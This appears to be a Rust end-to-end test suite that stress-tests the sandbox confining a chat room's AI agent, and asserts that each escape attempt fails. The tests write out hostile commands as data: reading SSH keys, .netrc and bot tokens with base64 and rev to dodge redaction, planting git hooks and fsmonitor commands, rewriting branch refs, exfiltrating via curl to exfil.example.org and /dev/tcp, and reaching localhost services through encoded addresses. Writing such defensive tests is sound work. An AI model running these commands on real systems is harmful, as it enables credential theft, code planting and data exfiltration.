//! A room's agent reaches for what is not its own. A person allows each command, so that nothing but the wall holds.

use std::{
    fs,
    net::TcpListener,
    path::Path,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
};

use adapters::testing::fake::FakeRoom;
use e2e::{Bot, Cli, Setup, git};
use needs::{needs, walls};
use pipeline::worktree::RoomName;
use scripted_model::ModelScript;
use serde_json::json;

/// What the attacker wants to read.
const SECRET: &str = "only-for-the-operator";

/// The walls of this machine, and where a room may work behind each: settings in `bot.toml`.
fn walled_workspaces() -> Vec<String> {
    // Landlock cannot protect `.git` in the main checkout.
    let workspaces =
        |wall: &str| if wall == "landlock" { &["worktree"][..] } else { &["worktree", "checkout"] };
    let settings = |wall| workspaces(wall).iter().map(move |workspace| walled(wall, workspace));
    walls().into_iter().flat_map(settings).collect()
}

fn walled(wall: &str, workspace: &str) -> String {
    format!("[wall]\nconfine = \"{wall}\"\n[relay]\nworkspace = \"{workspace}\"\n")
}

/// Behind the strongest wall of this machine.
async fn start_in_worktree() -> Bot {
    start("[relay]\nworkspace = \"worktree\"").await
}

async fn start(settings: &str) -> Bot {
    let team = "[[agent]]\nname = \"boss\"\nstage = \"supervisor\"\n";
    let setup = Setup::new(Cli::StandIn).config(settings).committed("README.md", "one\n");
    let bot = setup.file(".storkit/project.toml", team).start().await;
    bot.started().await;
    bot
}

/// Has the room's agent run a command that a person allows; returns what the command printed.
async fn run(room: &FakeRoom, command: &str) -> String {
    begin(room, command).await;
    room.settled().await;
    room.shown().last().map(|message| message.text.clone()).unwrap_or_default()
}

/// Has the room's agent run a command that a person allows.
async fn begin(room: &FakeRoom, command: &str) {
    room.say(&format!("bash {command}")).await;
    answer(room, "may I use **Bash**", "yes").await;
}

/// Answers the next question that has these words.
async fn answer(room: &FakeRoom, words: &str, answer: &str) {
    let asked = room.see(words).await.text;
    // By its number: a bare word so soon after another question would be for neither.
    let number: String =
        asked.chars().skip_while(|c| !c.is_ascii_digit()).take_while(char::is_ascii_digit).collect();
    let (word, rest) = answer.split_once(' ').unwrap_or((answer, ""));
    room.say(format!("{word} {number} {rest}").trim_end()).await;
    room.see(if word == "no" { "denied" } else { "allowed" }).await;
}

/// A service that counts who comes.
struct CountingServer {
    address: String,
    came: Arc<AtomicUsize>,
}

impl CountingServer {
    fn start(host: &str) -> Self {
        let listener = TcpListener::bind((host, 0)).expect("a port");
        let address = listener.local_addr().expect("an address").to_string();
        let came = Arc::new(AtomicUsize::new(0));
        let count = came.clone();
        std::thread::spawn(move || {
            for _ in listener.incoming().flatten() {
                count.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self { address, came }
    }

    fn came(&self) -> usize {
        self.came.load(Ordering::SeqCst)
    }
}

/// Has the agent print the file in ways that no redaction knows, and sees that it does not exist.
async fn cannot_read(room: &FakeRoom, file: &Path) {
    let file = file.display();
    let said = run(room, &format!("echo begun; cat '{file}'; base64 -w0 '{file}'; rev '{file}'; true")).await;
    assert!(said.contains("begun"), "{said}");
    let reversed: String = SECRET.chars().rev().collect();
    let encoded = "b25seS1mb3ItdGhlLW9wZXJhdG9y";
    assert!(![SECRET, &reversed, encoded].iter().any(|secret| said.contains(secret)), "{file}: {said}");
}

fn write(path: &Path, text: &str) {
    fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
    fs::write(path, text).expect("written");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_room_agent_reads_bot_toml() {
    needs!(Wall);
    for wall in walled_workspaces() {
        let bot = start(&wall).await;
        let file = bot.file(".storkit/bot.toml");
        let text = fs::read_to_string(&file).expect("settings");
        fs::write(&file, format!("# {SECRET}\n{text}")).expect("written");
        let room = bot.room("a");
        cannot_read(&room, &file).await;
        cannot_read(&room, Path::new(".storkit/bot.toml")).await;
        bot.app.shutdown().await;
    }
}

/// The file is read again at the next start, and its programs run in every room.
#[tokio::test(flavor = "multi_thread")]
async fn a_room_agent_adds_a_server_to_the_operators_file() {
    needs!(Wall);
    for wall in walled_workspaces() {
        let bot = start(&wall).await;
        let own = tempfile::tempdir().expect("a folder");
        let room = bot.room("a");
        for file in [bot.file(".storkit/mcp.json"), own.path().join("mcp.json")] {
            write(&file, "{}");
            let path = file.display();
            let attack = format!(
                "echo evil >> '{path}'; echo evil > new; mv -f new '{path}'; ln -sf \"$PWD/new\" '{path}'"
            );
            let said = run(&room, &format!("echo begun; ({attack}) 2>/dev/null; true")).await;
            assert!(said.contains("begun"), "{said}");
            assert_eq!(fs::read_to_string(&file).expect("the file"), "{}", "{path}");
            assert!(!file.is_symlink());
        }
        bot.app.shutdown().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_room_agent_reads_storkits_state() {
    needs!(Wall);
    for wall in walled_workspaces() {
        let bot = start(&wall).await;
        let room = bot.room("a");
        for file in [
            "run/operator-mcp.json",
            "state/state.db",
            "matrix/keys",
            "slack/token",
            "whatsapp/token",
            "logs/x",
        ] {
            let file = bot.file(&format!(".storkit/{file}"));
            if !file.ends_with("state.db") {
                write(&file, SECRET);
            }
            // Landlock hides what is in a file, and not its name.
            if !wall.contains("landlock") {
                let said = run(&room, &format!("test -e '{}' && echo visible; true", file.display())).await;
                assert!(!said.contains("visible"), "{}: {said}", file.display());
            }
            cannot_read(&room, &file).await;
        }
        let said = run(&room, &format!("cd '{}' && ls -A . run", bot.file(".storkit").display())).await;
        for hidden in ["bot.toml", "state", "matrix", "slack", "whatsapp", "logs", "json", "lock", "sock"] {
            assert!(!said.contains(hidden), "{wall}: {said}");
        }
        bot.app.shutdown().await;
    }
}

/// Without any question: the real CLI's own tool, which asks nobody about files below its folder.
#[tokio::test(flavor = "multi_thread")]
async fn a_room_agent_reads_bot_toml_with_the_clis_own_tool() {
    needs!(Wall, Claude);
    for wall in walled_workspaces() {
        let script =
            ModelScript::new().on("relative").calls("Read", json!({ "file_path": ".storkit/bot.toml" }));
        let script = script.then_says("that was it");
        let relay = format!("# {SECRET}\n{wall}");
        let bot = Setup::real(script).config(&relay).committed("README.md", "one\n").start().await;
        bot.started().await;
        let room = bot.room("a");
        room.say("relative").await;
        room.see("that was it").await;
        let requests = bot.model_requests();
        let told = requests.iter().any(|request| format!("{request:?}").contains(SECRET));
        assert!(!told, "{wall}: the model has read it");
        bot.app.shutdown().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_room_agent_reads_another_rooms_files() {
    needs!(Wall);
    let bot = start_in_worktree().await;
    let (victim, attacker) = (bot.room("victim"), bot.room("attacker"));
    run(&victim, &format!("echo {SECRET} > plan.txt")).await;
    let folder = bot.room_folder("victim");
    assert!(folder.join("plan.txt").exists());
    cannot_read(&attacker, &folder.join("plan.txt")).await;
    let said = run(&attacker, &format!("ls -A '{}'", bot.file(".storkit/worktrees").display())).await;
    assert!(!said.contains("victim"), "{said}");
    // Nor what the other room has said: the CLI keeps it below its home.
    let said =
        run(&attacker, "grep -rl only-for-the-operator \"$CLAUDE_CONFIG_DIR/projects\" || echo nothing")
            .await;
    let own = RoomName::of("fake:attacker").to_string();
    assert!(
        said.lines().all(|line| !line.contains("victim"))
            && (said.contains("nothing") || said.contains(&own)),
        "{said}"
    );
    bot.app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_room_agent_reads_the_operators_home() {
    needs!(Wall);
    for wall in walled_workspaces() {
        let bot = start(&wall).await;
        let room = bot.room("a");
        for file in [".ssh/id_ed25519", ".netrc", "notes.txt", "other-project/.env"] {
            let file = bot.home().join(file);
            write(&file, SECRET);
            cannot_read(&room, &file).await;
        }
        bot.app.shutdown().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_room_agent_writes_a_persons_uncommitted_files() {
    needs!(Wall);
    let bot = start_in_worktree().await;
    write(&bot.file(".env"), SECRET);
    let room = bot.room("a");
    let said = run(&room, &format!("echo changed >> '{}'; true", bot.file(".env").display())).await;
    assert_eq!(fs::read_to_string(bot.file(".env")).expect("it is there"), SECRET, "{said}");
    bot.app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_room_agent_moves_base() {
    needs!(Wall);
    for wall in walled_workspaces() {
        let bot = start(&wall).await;
        git(&bot.file(""), &["branch", "other"]);
        let refs = || {
            git(
                &bot.file(""),
                &["for-each-ref", "--format=%(refname) %(objectname)", "refs/heads/main", "refs/heads/other"],
            )
        };
        let before = refs();
        let room = bot.room("a");
        let root = bot.file("").display().to_string();
        let commit = "-c user.name=x -c user.email=x@example.org commit -q --allow-empty --no-verify -m evil";
        let tries = [
            "git update-ref refs/heads/main $(git commit-tree -m evil HEAD^{tree})".to_owned(),
            format!("git -C '{root}' {commit}"),
            "git branch -f main HEAD; git branch -D other; git push . HEAD:main".to_owned(),
            format!("echo 1234 > '{root}/.git/refs/heads/main'; rm -f '{root}/.git/refs/heads/other'"),
            format!("env -i PATH=\"$PATH\" git -c core.hooksPath=/dev/null -C '{root}' {commit}"),
        ];
        run(&room, &format!("{}; true", tries.join("; "))).await;
        assert_eq!(refs(), before, "{wall}");
        bot.app.shutdown().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_room_agent_plants_a_program_for_a_persons_git() {
    needs!(Wall);
    for wall in walled_workspaces() {
        let bot = start(&wall).await;
        let room = bot.room("a");
        let root = bot.file("").display().to_string();
        let tries = [
            format!(
                "echo 'touch {root}/pwned' > '{root}/.git/hooks/pre-commit'; chmod +x '{root}/.git/hooks/pre-commit'"
            ),
            format!("git config -f '{root}/.git/config' core.fsmonitor 'touch {root}/pwned'"),
            format!("git config core.fsmonitor 'touch {root}/pwned'"),
            format!("echo '* filter=x' > '{root}/.git/info/attributes'"),
        ];
        run(&room, &format!("{}; true", tries.join("; "))).await;
        assert!(!bot.file(".git/hooks/pre-commit").exists() && !bot.file(".git/info/attributes").exists());
        assert!(
            !fs::read_to_string(bot.file(".git/config")).expect("it is there").contains("pwned"),
            "{wall}"
        );
        git(&bot.file(""), &["status"]);
        assert!(!bot.file("pwned").exists());
        bot.app.shutdown().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_room_agent_has_its_program_run_by_land() {
    needs!(Wall);
    let bot = start_in_worktree().await;
    let room = bot.room("a");
    let pwned = bot.file("pwned").display().to_string();
    let tries = [
        "echo '* filter=evil' > .gitattributes".to_owned(),
        format!("git config --worktree filter.evil.clean 'touch {pwned}; cat'"),
        format!("git config --worktree core.fsmonitor 'touch {pwned}; false'"),
        format!(
            "mkdir -p hooks; echo 'touch {pwned}' > hooks/pre-commit; chmod +x hooks/pre-commit; git config --worktree core.hooksPath hooks"
        ),
    ];
    run(&room, &format!("{}; true", tries.join("; "))).await;
    room.say("land Innocent").await;
    room.see("Story `1` **Innocent**").await;
    assert!(!bot.file("pwned").exists(), "the agent's program ran outside its wall");
    bot.app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_room_agent_changes_the_gates_by_landing_them() {
    needs!(Wall);
    let bot = start_in_worktree().await;
    let room = bot.room("a");
    run(&room, "mkdir -p .storkit; echo 'gates = []' > .storkit/project.toml").await;
    room.say("land Faster gates").await;
    room.see("belongs to the pipeline and cannot be landed").await;
    run(&room, "git add -A -f && git commit -q -m x").await;
    room.say("land Faster gates").await;
    room.see("The changes touch `.storkit/project.toml`").await;
    assert!(bot.app.services().commands.pipeline.snapshot().board.is_empty());
    bot.app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_room_agent_sends_its_work_to_another_host() {
    needs!(Wall);
    for wall in walled_workspaces() {
        let bot = start(&wall).await;
        let room = bot.room("a");
        // Not 127.0.0.1, which clients reach without the proxy.
        let elsewhere = CountingServer::start("127.0.0.2");
        let address = &elsewhere.address;
        let udp = format!("echo secret > /dev/udp/{}", address.replace(':', "/"));
        let tries = [
            format!("curl -sS --max-time 60 http://{address}/"),
            format!("curl -sS --max-time 60 --noproxy '*' http://{address}/"),
            format!("timeout 60 bash -c 'echo secret > /dev/tcp/{}'", address.replace(':', "/")),
            udp,
        ];
        run(&room, &format!("{}; true", tries.join("; "))).await;
        let said = room.transcript();
        assert_eq!(elsewhere.came(), 0, "{wall}: {said}");
        assert!(said.contains("it is not public"), "{wall}: {said}");
        begin(&room, "curl -v --max-time 300 https://exfil.example.org/secret; true").await;
        answer(&room, "may I use **Network**", "no not there").await;
        room.settled().await;
        let said = room.transcript();
        assert!(said.contains("denied it: not there"), "{wall}: {said}");
        bot.app.shutdown().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_room_agent_reaches_the_services_of_this_machine() {
    needs!(Wall);
    for wall in walled_workspaces() {
        let bot = start(&wall).await;
        let room = bot.room("a");
        let service = CountingServer::start("127.0.0.1");
        let port = service.address.rsplit(':').next().expect("a port");
        let hosts = ["127.0.0.1", "localhost", "2130706433", "[::ffff:127.0.0.1]", "0.0.0.0"];
        let direct = hosts.map(|host| format!("curl -sS --max-time 60 --noproxy '*' http://{host}:{port}/"));
        let by_proxy = hosts.map(|host| format!("curl -sS --max-time 60 --noproxy '' http://{host}:{port}/"));
        let own = format!("curl -sS --max-time 60 --noproxy '*' http://127.0.0.1:{}/health", bot.app.port());
        let tries = direct.into_iter().chain(by_proxy).chain([own]);
        run(&room, &format!("{}; true", tries.collect::<Vec<_>>().join("; "))).await;
        let said = room.transcript();
        assert_eq!(service.came(), 0, "{wall}: {said}");
        assert!(said.contains("storkit refuses 127.0.0.1"), "{wall}: {said}");
        assert!(!said.contains("may I use **Network**"), "{wall}: no person can open it");
        bot.app.shutdown().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rooms_host_rule_serves_another_room() {
    needs!(Wall);
    let bot = start_in_worktree().await;
    let (one, other) = (bot.room("a"), bot.room("b"));
    // Not by a program that is known to fetch pages: after that there are no rules until a person writes.
    let fetch =
        "python3 -c 'import urllib.request as u; u.urlopen(\"https://exfil.invalid/\")' 2>&1 | tail -n 1";
    begin(&one, fetch).await;
    answer(&one, "may I use **Network**", "always").await;
    one.settled().await;
    // Now the rule answers.
    let said = run(&one, fetch).await;
    assert!(said.contains("502"), "{said}");
    begin(&other, fetch).await;
    answer(&other, "may I use **Network**", "no").await;
    other.settled().await;
    bot.app.shutdown().await;
}
